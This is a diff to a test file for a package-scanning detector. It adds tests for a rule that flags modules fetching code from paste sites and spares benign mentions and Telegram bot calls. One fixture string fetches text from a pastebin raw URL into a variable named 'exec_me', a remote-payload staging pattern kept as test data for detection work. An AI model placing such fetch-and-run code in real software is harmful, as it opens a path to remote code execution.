@@ -10,6 +10,7 @@ from threatfeed.analysis.rules.correlation import (
     install_time_beacon_rule,
     install_time_download_rule,
     raw_ip_endpoint_rule,
+    staging_host_rule,
 )
 
 BEACON = (
@@ -108,3 +109,18 @@ def test_sending_to_a_url_spelled_in_base64(engine: Engine) -> None:
     assert run_rule(engine, hidden_endpoint_rule, sdist({"tidy_strings/up.py": plain})) is None
     stored = f"FIXTURE = '{hidden}'\n"
     assert run_rule(engine, hidden_endpoint_rule, sdist({"tidy_strings/up.py": stored})) is None
+
+
+def test_fetching_from_a_paste_site_in_a_module(engine: Engine) -> None:
+    code = "import requests\nexec_me = requests.get('https://pastebin.com/raw/AbCd1234').text\n"
+    evidence = run_rule(engine, staging_host_rule, sdist({"tidy_strings/net.py": code}))
+    assert evidence[0]["file"].endswith("tidy_strings/net.py")
+    assert engine.analyze(sdist({"tidy_strings/net.py": code})).flagged
+    mention = "# paste logs to https://pastebin.com/raw/AbCd1234 when reporting a bug\n"
+    assert run_rule(engine, staging_host_rule, sdist({"tidy_strings/net.py": mention})) is None
+    assert run_rule(engine, staging_host_rule, sdist({"tests/test_net.py": code})) is None
+
+
+def test_messenger_bot_library_is_no_staging_host(engine: Engine) -> None:
+    code = "import requests\nrequests.post('https://api.telegram.org/bot' + token + '/getMe')\n"
+    assert run_rule(engine, staging_host_rule, sdist({"tidy_strings/bot.py": code})) is None
